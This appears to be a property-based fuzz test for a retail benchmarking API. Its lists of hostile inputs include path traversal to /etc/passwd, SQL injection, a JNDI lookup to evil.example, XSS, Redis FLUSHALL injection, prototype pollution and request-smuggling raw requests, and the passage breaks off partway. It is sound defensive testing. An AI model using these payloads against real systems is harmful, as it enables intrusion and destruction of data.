import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import fc from 'fast-check';
import Redis from 'ioredis';
import { Agent } from 'node:http';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { createTestApp } from './utils/create-test-app';
import { send, sendRaw, type HttpCall, type Outcome } from './utils/raw-http';
import { PrivateRedis, redisServerAvailable } from './utils/redis-server';

/**
 * Hostile input against a real listening server (the production app on a port, raw node:http and TCP): at least
 * 5,000 generated requests across every endpoint. Every answer must be a 4xx whose body is Nest's error shape with a
 * message (naming the field that was broken, where one was), or a 2xx where the input was in fact valid; never a
 * 5xx, a stack trace or a dropped connection. Afterwards: the process serves normally, its heap has not grown beyond
 * {@link HEAP_GROWTH_BOUND_MB}, no prototype was polluted, and Redis holds no key outside the service's namespace.
 *
 * Reproducible: FUZZ_SEED (default below) fixes every generated request; FUZZ_RUNS scales the count.
 */

const SEED = Number(process.env.FUZZ_SEED ?? 20250315);
const RUNS = Number(process.env.FUZZ_RUNS ?? 5000);
const CONCURRENCY = 8;
const ADMIN_API_KEY = 'fuzz-admin-key-0123456789abcdef';
const PREFIX = 'fuzz-benchmark-api:';
const NAMESPACE = PREFIX.slice(0, -1);
const BODY_LIMIT = 64 * 1024;
/** Largest growth of the heap (after a full GC) the whole fuzz run may cause. */
const HEAP_GROWTH_BOUND_MB = 40;
const B = '/api/benchmarks';

// ---------------------------------------------------------------------------------------------------------------
// JSON text with what JSON.stringify cannot write: NaN, 1e400, -0, duplicate and __proto__ keys.

class Raw {
  constructor(readonly text: string) {}
}
/** An object as a list of entries, so that `__proto__` stays a key instead of setting a prototype. */
class Obj {
  constructor(readonly entries: ReadonlyArray<readonly [string, Json]>) {}
}
type Json = Raw | Obj | string | number | boolean | null | Json[];

function toText(value: Json): string {
  if (value instanceof Raw) return value.text;
  if (value instanceof Obj)
    return `{${value.entries.map(([k, v]) => `${JSON.stringify(k)}:${toText(v)}`).join(',')}}`;
  if (Array.isArray(value)) return `[${value.map(toText).join(',')}]`;
  return JSON.stringify(value);
}

const obj = (record: Record<string, Json>): Obj =>
  new Obj(Object.entries(record));

/** What the generator knows about a request, to judge its answer. */
interface FuzzCase extends HttpCall {
  label: string;
  /** true: must be 2xx; false: must be 4xx; 'maybe': either. */
  valid: boolean | 'maybe';
  /** A 4xx message must contain one of these (the field that was broken); empty: any message. */
  mentions: string[];
  /** Allowed 4xx statuses, when narrower than any 4xx. */
  statuses?: number[];
  raw?: boolean;
}

// ---------------------------------------------------------------------------------------------------------------
// Hostile values.

const INJECTIONS = [
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  "' OR '1'='1' --",
  '"; DROP TABLE benchmarks; --',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '*',
  '?',
  '[a-z]',
  '\\',
  ':',
  'retail:medium:national',
  'v2:synthetic:retail',
  '\r\nFLUSHALL\r\n',
  '*1\r\n$8\r\nFLUSHALL\r\n',
  'retail\u0000',
  '\u0000',
  '\u202eliater',
  'retail\u200b',
  'ＲＥＴＡＩＬ',
  'RETAIL',
  ' retail',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  '😀'.repeat(30),
  '\ud800',
  '',
  ' ',
  'null',
  'undefined',
  'NaN',
];

const injectionArb = fc.constantFrom(...INJECTIONS);
const longStringArb = fc
  .tuple(
    fc.constantFrom('a', 'é', '😀', '\u0000', '%'),
    fc.integer({ min: 101, max: 20_000 }),
  )
  .map(([c, n]) => c.repeat(n));
const anyStringArb = fc.oneof(
  injectionArb,
  fc.string({ unit: 'binary', maxLength: 40 }),
  longStringArb,
);
const NUMERIC_SPECIALS = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '-1e400',
  '-0',
  '1e-400',
  '0x10',
  '01',
  '.5',
  '+1',
];
const weirdNumberArb: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom(...NUMERIC_SPECIALS).map((t) => new Raw(t)),
  fc.double(),
  fc.integer(),
  fc.constantFrom(Number.MAX_SAFE_INTEGER + 2, -1e308, 5e-324, 1e21),
);
/** Nested arrays or objects `depth` levels deep (as text: a deep value would overflow a recursive writer). */
const deepArb: fc.Arbitrary<Json> = fc
  .tuple(fc.integer({ min: 15, max: 3000 }), fc.boolean())
  .map(([depth, arrays]) =>
    arrays
      ? new Raw(`${'['.repeat(depth)}1${']'.repeat(depth)}`)
      : new Raw(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
  );
const pollutingArb: fc.Arbitrary<Json> = fc.constantFrom<Json>(
  new Obj([['__proto__', obj({ polluted: 'yes' })]]),
  new Obj([['constructor', obj({ prototype: obj({ polluted: 'yes' }) })]]),
  new Obj([['prototype', obj({ polluted: 'yes' })]]),
  [new Obj([['__proto__', obj({ polluted: 'yes' })]])],
);
const hostileValueArb: fc.Arbitrary<Json> = fc.oneof(
  anyStringArb,
  weirdNumberArb,
  fc.constantFrom<Json>(
    null,
    true,
    false,
    [],
    new Obj([]),
    [null],
    ['retail'],
    obj({ a: 1 }),
  ),
  fc.array(anyStringArb, { maxLength: 5 }),
  deepArb,
  pollutingArb,
);

const IMPOSSIBLE_DATES = [
  '2024-02-30',
  '2023-02-29',
  '2024-13-01',
  '2024-00-10',
  '2024-04-31',
  '0000-01-01',
  '1999-12-31',
  '2025-03-01',
  '9999-12-31',
  '2024-1-1',
  '24-01-01',
  '2024/01/01',
  '2024-01-01T00:00:00Z',
  ' 2024-01-01',
  '2024-01-01\n',
  '２０２４-０１-０１',
  '+02024-01-01',
  '-2024-01-01',
  '2024-01-01\u0000',
];
const dateArb: fc.Arbitrary<{ value: Json; valid: boolean | 'maybe' }> =
  fc.oneof(
    fc
      .constantFrom(...IMPOSSIBLE_DATES)
      .map((value) => ({ value, valid: false as const })),
    fc
      .tuple(
        fc.integer({ min: 0, max: 9999 }),
        fc.integer({ min: 0, max: 99 }),
        fc.integer({ min: 0, max: 99 }),
      )
      .map(([y, m, d]) => ({
        value: `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`,
        valid: 'maybe' as const,
      })),
    hostileValueArb.map((value) => ({ value, valid: false as const })),
  );

// ---------------------------------------------------------------------------------------------------------------
// Request bodies: a valid body with one to three mutations.

const SIZES = ['small', 'medium', 'large'];
const REGIONS = [
  'national',
  'northeast',
  'southeast',
  'midwest',
  'west',
  'southwest',
];
const RETAIL_METRICS = [
  'revenue_per_employee',
  'profit_margin',
  'gross_margin',
  'inventory_turnover',
  'customer_acquisition_cost',
  'customer_retention_rate',
];

interface Verdict {
  valid: boolean | 'maybe';
  mentions: string[];
}

/** A body being mutated, and what each changed field makes of it (a later change of a field replaces its verdict). */
interface BodyDraft {
  fields: Map<string, Json>;
  verdicts: Map<string, Verdict>;
}

type Mutation = (draft: BodyDraft) => void;

function put(
  draft: BodyDraft,
  field: string,
  value: Json,
  valid: boolean | 'maybe',
  mentions: string[],
): void {
  draft.fields.set(field, value);
  draft.verdicts.set(field, { valid, mentions });
}

function drop(
  draft: BodyDraft,
  field: string,
  valid: boolean | 'maybe' = true,
  mentions: string[] = [],
): void {
  draft.fields.delete(field);
  draft.verdicts.set(field, { valid, mentions });
}

function verdictOf(draft: BodyDraft): Verdict {
  const all = [...draft.verdicts.values()];
  return {
    valid: all.some((v) => v.valid === false)
      ? false
      : all.some((v) => v.valid === 'maybe')
        ? 'maybe'
        : true,
    mentions: all.filter((v) => v.valid !== true).flatMap((v) => v.mentions),
  };
}

/** Mentions any message about a value must be allowed to carry instead of the field's name. */
const VALUE_MENTIONS = [
  'forbidden key',
  'nested more than',
  'not valid JSON',
  // the body's shape limits (a key, string, object or array too large), whatever field holds it
  'in a request body may have at most',
];

const setField = (field: string, mentions: string[]): fc.Arbitrary<Mutation> =>
  hostileValueArb.map((value) => (draft) => {
    put(draft, field, value, false, [...mentions, ...VALUE_MENTIONS]);
  });

const commonMutations: Array<fc.Arbitrary<Mutation>> = [
  setField('industry', ['industry']),
  setField('company_size', ['company_size']),
  setField('region', ['region']),
  injectionArb.map((value) => (draft: BodyDraft) => {
    put(draft, 'industry', value, false, ['industry']);
  }),
  fc.constantFrom('industry').map((f) => (draft: BodyDraft) => {
    drop(draft, f, false, [f]);
  }),
  fc.constantFrom('company_size', 'region').map((f) => (draft: BodyDraft) => {
    drop(draft, f);
  }),
  fc
    .tuple(
      fc.oneof(
        fc.constantFrom(
          'extra',
          '__proto__',
          'constructor',
          'prototype',
          'toString',
          'valueOf',
          'hasOwnProperty',
          'INDUSTRY',
        ),
        anyStringArb,
      ),
      hostileValueArb,
    )
    .map(([key, value]) => (draft: BodyDraft) => {
      if (
        [
          'industry',
          'company_size',
          'region',
          'metrics',
          'start_date',
          'end_date',
          'user_values',
          'period',
        ].includes(key)
      )
        return;
      put(draft, key, value, false, [
        `property ${key.slice(0, 40)}`,
        'forbidden key',
        ...VALUE_MENTIONS,
      ]);
    }),
];

const dataMutations: Array<fc.Arbitrary<Mutation>> = [
  ...commonMutations,
  setField('metrics', ['metrics', 'Unknown metric']),
  fc
    .array(anyStringArb, { minLength: 1, maxLength: 8 })
    .map((names) => (draft: BodyDraft) => {
      put(draft, 'metrics', names, false, ['metrics', 'Unknown metric']);
    }),
  fc.integer({ min: 51, max: 5000 }).map((n) => (draft: BodyDraft) => {
    put(
      draft,
      'metrics',
      Array.from(
        { length: n },
        (_, i) => RETAIL_METRICS[i % RETAIL_METRICS.length],
      ),
      false,
      ['metrics'],
    );
  }),
  fc.constant((draft: BodyDraft) => {
    put(draft, 'metrics', ['profit_margin', 'profit_margin'], false, [
      'metrics',
    ]);
  }),
  ...['start_date', 'end_date'].map((field) =>
    dateArb.map(({ value, valid }) => (draft: BodyDraft) => {
      put(draft, field, value, valid, [
        field,
        'start_date',
        'end_date',
        ...VALUE_MENTIONS,
      ]);
    }),
  ),
  fc
    .constantFrom('metrics', 'start_date', 'end_date')
    .map((f) => (draft: BodyDraft) => {
      drop(draft, f);
      // Without start_date, end_date (2024-12) may still be valid; without end_date, start_date gives 12 months.
    }),
];

const compareMutations: Array<fc.Arbitrary<Mutation>> = [
  ...commonMutations,
  setField('user_values', ['user_values', 'Unknown metric']),
  dateArb.map(({ value, valid }) => (draft: BodyDraft) => {
    put(draft, 'period', value, valid, ['period', ...VALUE_MENTIONS]);
  }),
  fc.constant((draft: BodyDraft) => {
    drop(draft, 'user_values', false, ['user_values']);
  }),
  fc.constant((draft: BodyDraft) => {
    drop(draft, 'period');
  }),
  fc
    .tuple(
      fc.constantFrom(...RETAIL_METRICS),
      fc.oneof(
        weirdNumberArb,
        anyStringArb,
        fc.constantFrom<Json>(null, true, [], obj({})),
      ),
    )
    .map(([metric, value]) => (draft: BodyDraft) => {
      const finite = typeof value === 'number' && Number.isFinite(value);
      put(
        draft,
        'user_values',
        new Obj([[metric, value]]),
        finite ? 'maybe' : false,
        ['user_values', ...VALUE_MENTIONS],
      );
    }),
  fc
    .tuple(
      fc.oneof(
        anyStringArb,
        fc.constantFrom('__proto__', 'constructor', 'toString'),
      ),
      fc.double(),
    )
    .map(([key, value]) => (draft: BodyDraft) => {
      put(draft, 'user_values', new Obj([[key, value]]), false, [
        'user_values',
        'Unknown metric',
        'forbidden key',
      ]);
    }),
  fc.integer({ min: 51, max: 3000 }).map((n) => (draft: BodyDraft) => {
    put(
      draft,
      'user_values',
      new Obj(Array.from({ length: n }, (_, i) => [`metric_${i}`, i] as const)),
      false,
      ['user_values'],
    );
  }),
];

function bodyCase(
  path: string,
  base: Record<string, Json>,
  mutations: Array<fc.Arbitrary<Mutation>>,
): fc.Arbitrary<FuzzCase> {
  return fc
    .array(fc.oneof(...mutations), { minLength: 0, maxLength: 3 })
    .map((chosen) => {
      const draft: BodyDraft = {
        fields: new Map(Object.entries(base)),
        verdicts: new Map(),
      };
      for (const mutate of chosen) mutate(draft);
      const verdict = verdictOf(draft);
      const text = toText(new Obj([...draft.fields.entries()]));
      const tooLarge = Buffer.byteLength(text) > BODY_LIMIT;
      return {
        label: `POST ${path} (${chosen.length} mutations)`,
        method: 'POST',
        path,
        headers: { 'content-type': 'application/json' },
        body: text,
        valid: tooLarge ? false : verdict.valid,
        mentions: tooLarge ? ['too large'] : verdict.mentions,
        statuses: tooLarge ? [413] : undefined,
      };
    });
}

const validDataArb = fc.record({
  industry: fc.constant<Json>('retail'),
  company_size: fc.constantFrom<Json>(...SIZES),
  region: fc.constantFrom<Json>(...REGIONS),
  metrics: fc.subarray(RETAIL_METRICS, { minLength: 1 }),
  start_date: fc.constant<Json>('2024-01-01'),
  end_date: fc.constant<Json>('2024-12-31'),
});
const validCompareArb = fc.record({
  industry: fc.constant<Json>('retail'),
  company_size: fc.constantFrom<Json>(...SIZES),
  region: fc.constantFrom<Json>(...REGIONS),
  user_values: fc.constant<Json>(
    obj({ revenue_per_employee: 180000, profit_margin: 0.1 }),
  ),
  period: fc.constant<Json>('2024-12-01'),
});

const dataCaseArb = validDataArb.chain((base) =>
  bodyCase(`${B}/data`, base, dataMutations),
);
const compareCaseArb = validCompareArb.chain((base) =>
  bodyCase(`${B}/compare`, base, compareMutations),
);

// ---------------------------------------------------------------------------------------------------------------
// Malformed JSON, content types, sizes.

const MALFORMED_JSON = [
  '{',
  '{"industry": "retail",}',
  "{'industry': 'retail'}",
  '{"industry": "retail" /* c */}',
  '{"industry": "retail"}}',
  '{"industry": "re',
  '{"industry": NaN}',
  '{"industry": undefined}',
  '{industry: "retail"}',
  '\ufeff{"industry": "retail"}',
  '{"industry": "retail", "industry": "retail"}',
  '{"__proto__": {"polluted": "yes"}, "industry": "retail"}',
  '{"constructor": {"prototype": {"polluted": "yes"}}, "industry": "retail"}',
  '{"industry": "retail", "metrics": {"__proto__": []}}',
  'null',
  '[]',
  '[{"industry": "retail"}]',
  '123',
  '"retail"',
  'true',
  '',
  '   ',
  '\u0000',
  '{"industry": "\\ud800"}',
  '{"industry": "\\u0000"}',
  '{"a":' + '['.repeat(20_000) + ']'.repeat(20_000) + '}',
  '['.repeat(30_000),
];

const MAYBE_VALID_JSON = [
  '\ufeff{"industry": "retail"}',
  '{"industry": "retail", "industry": "retail"}',
];

const malformedCaseArb: fc.Arbitrary<FuzzCase> = fc
  .tuple(
    fc.constantFrom(`${B}/data`, `${B}/compare`),
    fc.oneof(
      fc.constantFrom(...MALFORMED_JSON),
      fc.string({ unit: 'binary', maxLength: 200 }),
    ),
  )
  .map(([path, body]) => ({
    label: `POST ${path} malformed JSON`,
    method: 'POST',
    path,
    headers: { 'content-type': 'application/json' },
    body,
    // A leading BOM and duplicate keys are accepted (JSON.parse keeps the last): valid for /data.
    valid: MAYBE_VALID_JSON.includes(body) ? 'maybe' : false,
    mentions: [],
  }));

const CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json-patch+json',
  'application/jsonx',
  'text/json',
  '*/*',
  'application/octet-stream',
];
const contentTypeCaseArb: fc.Arbitrary<FuzzCase> = fc
  .tuple(
    fc.constantFrom(`${B}/data`, `${B}/compare`),
    fc.constantFrom(...CONTENT_TYPES),
    fc.boolean(),
  )
  .map(([path, type, asJson]) => ({
    label: `POST ${path} as ${type}`,
    method: 'POST',
    path,
    headers: { 'content-type': type },
    body: asJson
      ? '{"industry":"retail"}'
      : 'industry=retail&__proto__[polluted]=yes',
    valid: false,
    mentions: [],
    statuses: [400, 415],
  }));

const oversizedCaseArb: fc.Arbitrary<FuzzCase> = fc
  .tuple(
    fc.constantFrom(`${B}/data`, `${B}/compare`),
    fc.integer({ min: BODY_LIMIT + 1, max: 2 * 1024 * 1024 }),
    fc.boolean(),
  )
  .map(([path, size, json]) => ({
    label: `POST ${path} ${size} bytes`,
    method: 'POST',
    path,
    headers: { 'content-type': json ? 'application/json' : 'text/plain' },
    body: json ? `{"industry":"${'a'.repeat(size)}"}` : 'x'.repeat(size),
    valid: false,
    mentions: [],
    statuses: [413, 415],
  }));

// ---------------------------------------------------------------------------------------------------------------
// Paths, methods, headers.

/** Percent-encodes the UTF-8 bytes of `text` (lone surrogates become U+FFFD, where encodeURIComponent throws). */
const encode = (text: string): string =>
  [...Buffer.from(text, 'utf8')]
    .map((b) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(b))
        ? String.fromCharCode(b)
        : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
    )
    .join('');

const segmentArb = fc.oneof(
  injectionArb.map(encode),
  fc.string({ unit: 'binary', maxLength: 30 }).map(encode),
  longStringArb.map((s) => encode(s.slice(0, 1000))),
  fc.constantFrom(
    '..',
    '../..',
    '..%2F..%2Fpackage.json',
    '%2e%2e',
    '%00',
    '%',
    '%ZZ',
    '%E0%A4%A',
    '%C0%AE%C0%AE',
    'retail%00',
    'retail;x',
    'retail?x=1',
    'retail#x',
    'RETAIL',
    'retail/',
    'retail//',
    '.',
    '~',
  ),
);

const catalogCaseArb: fc.Arbitrary<FuzzCase> = fc
  .tuple(
    fc.constantFrom('industries', 'metrics'),
    segmentArb,
    fc.constantFrom(
      '',
      '?x=1',
      '?__proto__[polluted]=yes',
      '?constructor[prototype][polluted]=yes',
      '?a=%ZZ',
    ),
  )
  .map(([route, segment, query]) => ({
    label: `GET ${route}/<segment>`,
    method: 'GET',
    path: `${B}/${route}/${segment}${query}`,
    valid: 'maybe',
    mentions: [],
  }));

const ROUTES = [
  `${B}/health`,
  `${B}/health/ready`,
  `${B}/industries`,
  `${B}/industries/retail`,
  `${B}/metrics/retail`,
  `${B}/data`,
  `${B}/compare`,
  `${B}/cache`,
  `${B}/admin/tenants`,
  `${B}/admin/publications`,
  `${B}/contributions/batch`,
  `${B}/contributions/acct-1`,
  `${B}/contributions/acct-1/2024-12-01`,
  '/metrics',
  '/docs',
  '/docs-json',
  '/docs/swagger-ui.css',
];
const methodCaseArb: fc.Arbitrary<FuzzCase> = fc
  .tuple(
    fc.constantFrom(
      'GET',
      'POST',
      'PUT',
      'PATCH',
      'DELETE',
      'OPTIONS',
      'HEAD',
      'TRACE',
    ),
    fc.constantFrom(...ROUTES),
    fc.constantFrom(
      '',
      '?x=1',
      '?__proto__[polluted]=yes',
      '/',
      '/extra/segment',
    ),
  )
  .map(([method, path, suffix]) => ({
    label: `${method} ${path}${suffix}`,
    method,
    path: path + suffix,
    headers:
      method === 'POST' ? { 'content-type': 'application/json' } : undefined,
    body: method === 'POST' ? '{}' : undefined,
    valid: 'maybe',
    mentions: [],
  }));

const traversalCaseArb: fc.Arbitrary<FuzzCase> = fc
  .constantFrom(
    '/docs/../package.json',
    '/docs/..%2Fpackage.json',
    '/docs/%2e%2e/%2e%2e/package.json',
    '/docs/..%2F..%2F..%2Fetc%2Fpasswd',
    '/docs/....//....//package.json',
    '/docs/%252e%252e%252fpackage.json',
    '/docs/swagger-ui.css%00.json',
    '/api/benchmarks/../../package.json',
    '/api/benchmarks/%2e%2e/%2e%2e/package.json',
    '/api/benchmarks/industries/..%2F..%2F..%2Fpackage.json',
    '/static/../../etc/passwd',
    '//etc/passwd',
    '/.env',
    '/.git/config',
    '/node_modules/.package-lock.json',
  )
  .map((path) => ({
    label: `GET ${path}`,
    method: 'GET',
    path,
    valid: false,
    mentions: [],
    statuses: [400, 403, 404],
  }));

const authCaseArb: fc.Arbitrary<FuzzCase> = fc
  .oneof(
    fc.constantFrom(
      '',
      'Bearer',
      'Bearer ',
      'bearer',
      `Bearer ${ADMIN_API_KEY}x`,
      `Bearer ${ADMIN_API_KEY.slice(0, -1)}`,
      `Bearer  ${ADMIN_API_KEY.toUpperCase()}`,
      `Basic ${Buffer.from(`admin:${ADMIN_API_KEY}`).toString('base64')}`,
      ADMIN_API_KEY,
      `Token ${ADMIN_API_KEY}`,
      `Bearer ${ADMIN_API_KEY} ${ADMIN_API_KEY}`,
    ),
    fc
      .string({ unit: 'grapheme-ascii', maxLength: 60 })
      .map((s) => `Bearer ${s}`),
    fc.integer({ min: 100, max: 8000 }).map((n) => `Bearer ${'k'.repeat(n)}`),
  )
  .map((authorization): FuzzCase => ({
    label: 'DELETE /cache with a bad key',
    method: 'DELETE',
    path: `${B}/cache`,
    headers: authorization === '' ? {} : { authorization },
    valid: false,
    mentions: ['admin key'],
    statuses: [401],
  }));

const headerCaseArb: fc.Arbitrary<FuzzCase> = fc
  .tuple(
    fc.constantFrom(
      'x-request-id',
      'accept',
      'accept-encoding',
      'origin',
      'x-forwarded-for',
      'content-length-ignored',
      'cookie',
      'range',
    ),
    fc.oneof(
      injectionArb.filter((s) => /^[\x20-\x7e]*$/.test(s)),
      fc.string({ unit: 'grapheme-ascii', maxLength: 200 }),
      fc.integer({ min: 1000, max: 12_000 }).map((n) => 'h'.repeat(n)),
    ),
    fc.constantFrom(`${B}/industries`, `${B}/health`, `${B}/industries/retail`),
  )
  .map(([name, value, path]) => ({
    label: `GET ${path} with odd ${name}`,
    method: 'GET',
    path,
    headers: { [name]: value },
    valid: 'maybe',
    mentions: [],
  }));

// Raw bytes the node:http client would refuse to send.
const RAW_REQUESTS: string[] = [
  'GARBAGE\r\n\r\n',
  'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
  'GET /api/benchmarks/industries/re tail HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /api/benchmarks/industries/réta😀il HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /api/benchmarks/industries/%E0%A4%A HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /api/benchmarks/industries/retail\u0000 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET /api/benchmarks/health HTTP/1.1\r\nHost: x\r\nX-Bad: a\u0000b\r\nConnection: close\r\n\r\n',
  'GET /api/benchmarks/health HTTP/1.1\r\nHost: x\r\nno-colon-header\r\nConnection: close\r\n\r\n',
  `GET /api/benchmarks/health HTTP/1.1\r\nHost: x\r\nX-Big: ${'b'.repeat(20_000)}\r\nConnection: close\r\n\r\n`,
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: -5\r\nConnection: close\r\n\r\n{}',
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: abc\r\nConnection: close\r\n\r\n{}',
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\n{}\r\n0\r\n\r\n',
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n',
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 99999999999999999999\r\nConnection: close\r\n\r\n{}',
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\u0000\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}',
  'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json; charset=utf-16\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}',
  'POST /api/benchmarks/compare HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1\r\nConnection: close\r\n\r\n{"industry":"retail"}',
  'DELETE /api/benchmarks/cache HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer \u00ff\u00fe\r\nConnection: close\r\n\r\n',
  'GET /api/benchmarks/health HTTP/1.0\r\n\r\n',
  'GET /../../../etc/passwd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET http://evil.example/api/benchmarks/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
  'GET * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
];
const INVALID_UTF8 = Buffer.concat([
  Buffer.from(
    'POST /api/benchmarks/data HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 21\r\nConnection: close\r\n\r\n',
  ),
  Buffer.from('{"industry":"re'),
  Buffer.from([0xff, 0xfe, 0xc0, 0xaf]),
  Buffer.from('il"}'),
]);

const rawCaseArb: fc.Arbitrary<FuzzCase> = fc
  .constantFrom(
    ...RAW_REQUESTS.map((text) => Buffer.from(text, 'utf8')),
    INVALID_UTF8,
  )
  .map((bytes) => ({
    label: `raw ${JSON.stringify(bytes.toString('latin1').slice(0, 60))}`,
    method: 'RAW',
    path: '',
    body: bytes,
    valid: 'maybe',
    mentions: [],
    raw: true,
  }));

// Contributions: a real tenant's key (created when the app starts), hostile references, periods and bodies.
const tenant = { key: '' };

const contributionValueArb: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom<Json>(0.05, -0.2, 0.99, 1.5, -11, 12, 0),
  weirdNumberArb,
  hostileValueArb,
);
const contributionBodyArb: fc.Arbitrary<Json> = fc.oneof(
  fc
    .record<Record<string, Json>>({
      industry: fc.oneof(
        fc.constantFrom<Json>('retail', 'restaurant'),
        hostileValueArb,
      ),
      company_size: fc.oneof(
        fc.constantFrom<Json>('small', 'medium', 'all'),
        hostileValueArb,
      ),
      region: fc.oneof(
        fc.constantFrom<Json>('midwest', 'west', 'national'),
        hostileValueArb,
      ),
      values: fc.oneof(
        fc
          .dictionary(
            fc.oneof(
              fc.constantFrom('profit_margin', 'gross_margin', 'table_turns'),
              injectionArb,
            ),
            contributionValueArb,
            { maxKeys: 4 },
          )
          .map((d): Json => new Obj(Object.entries(d))),
        hostileValueArb,
        pollutingArb,
      ),
    })
    .map((r): Json => obj(r)),
  hostileValueArb,
  pollutingArb,
  deepArb,
);
const referenceArb = fc.oneof(
  fc.constantFrom('acct-1', 'a'.repeat(100), 'x:y@z~1.2_3'),
  injectionArb.map(encodePath),
  fc
    .string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 30 })
    .map(encodePath),
);
const periodArb = fc.oneof(
  fc.constantFrom(
    '2024-12-01',
    '2025-02-28',
    '2000-01-01',
    '1999-12-31',
    '2099-01-01',
    '2024-02-30',
    '2024-13-01',
  ),
  injectionArb.map(encodePath),
);
const contributionCaseArb: fc.Arbitrary<FuzzCase> = fc.oneof(
  fc
    .tuple(referenceArb, periodArb, contributionBodyArb)
    .map(([ref, period, body]): FuzzCase => ({
      label: 'PUT /contributions/<ref>/<period>',
      method: 'PUT',
      path: `${B}/contributions/${ref}/${period}`,
      get headers() {
        return {
          'content-type': 'application/json',
          authorization: `Bearer ${tenant.key}`,
        };
      },
      body: toText(body),
      valid: 'maybe',
      mentions: [],
    })),
  fc
    .array(
      fc.oneof(
        fc
          .tuple(referenceArb, periodArb, contributionBodyArb)
          .map(([ref, period, body]): Json =>
            body instanceof Obj
              ? new Obj([
                  ...body.entries,
                  ['business_ref', decodeURIComponentSafe(ref)],
                  ['period', decodeURIComponentSafe(period)],
                ])
              : body,
          ),
        hostileValueArb,
      ),
      { maxLength: 20 },
    )
    .map((records): FuzzCase => ({
      label: 'POST /contributions/batch',
      method: 'POST',
      path: `${B}/contributions/batch`,
      get headers() {
        return {
          'content-type': 'application/json',
          authorization: `Bearer ${tenant.key}`,
        };
      },
      body: toText(obj({ records })),
      valid: 'maybe',
      mentions: [],
    })),
  fc
    .tuple(fc.constantFrom('GET', 'DELETE'), referenceArb)
    .map(([method, ref]): FuzzCase => ({
      label: `${method} /contributions/<ref>`,
      method,
      path: `${B}/contributions/${ref}`,
      get headers() {
        return { authorization: `Bearer ${tenant.key}` };
      },
      valid: 'maybe',
      mentions: [],
    })),
  fc
    .oneof(
      fc.constant(''),
      fc
        .string({ unit: 'grapheme-ascii', maxLength: 60 })
        .map((k) => `Bearer ${k}`),
      fc.constantFrom(
        `Bearer ${ADMIN_API_KEY}`,
        'Bearer bmk_',
        `Bearer bmk_${'A'.repeat(43)}`,
      ),
    )
    .map((authorization): FuzzCase => ({
      label: 'GET /contributions with a bad tenant key',
      method: 'GET',
      path: `${B}/contributions/acct-1`,
      headers: authorization === '' ? {} : { authorization },
      valid: false,
      mentions: ['tenant key'],
      statuses: [401],
    })),
  fc
    .oneof(
      contributionBodyArb,
      hostileValueArb,
      fc
        .oneof(anyStringArb, hostileValueArb)
        .map((name): Json => obj({ name })),
    )
    .map((body): FuzzCase => ({
      label: 'POST /admin/tenants',
      method: 'POST',
      path: `${B}/admin/tenants`,
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${ADMIN_API_KEY}`,
      },
      body: toText(body),
      valid: 'maybe',
      mentions: [],
    })),
  fc
    .tuple(fc.constantFrom('POST', 'DELETE'), segmentArb)
    .map(([method, id]): FuzzCase => ({
      label: `${method} /admin/tenants/<id>`,
      method,
      path:
        method === 'POST'
          ? `${B}/admin/tenants/${id}/rotate-key`
          : `${B}/admin/tenants/${id}`,
      headers: { authorization: `Bearer ${ADMIN_API_KEY}` },
      valid: 'maybe',
      mentions: [],
    })),
);

/** Percent-encodes a path segment byte by byte (encodeURIComponent throws on a lone surrogate; this sends U+FFFD). */
function encodePath(text: string): string {
  return Array.from(Buffer.from(text, 'utf8'), (byte) =>
    byte < 128 && /[A-Za-z0-9._~-]/.test(String.fromCharCode(byte))
      ? String.fromCharCode(byte)
      : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`,
  ).join('');
}

function decodeURIComponentSafe(text: string): string {
  try {
    return decodeURIComponent(text);
  } catch {
    return text;
  }
}

const requestArb: fc.Arbitrary<FuzzCase> = fc.oneof(
  { weight: 10, arbitrary: contributionCaseArb },
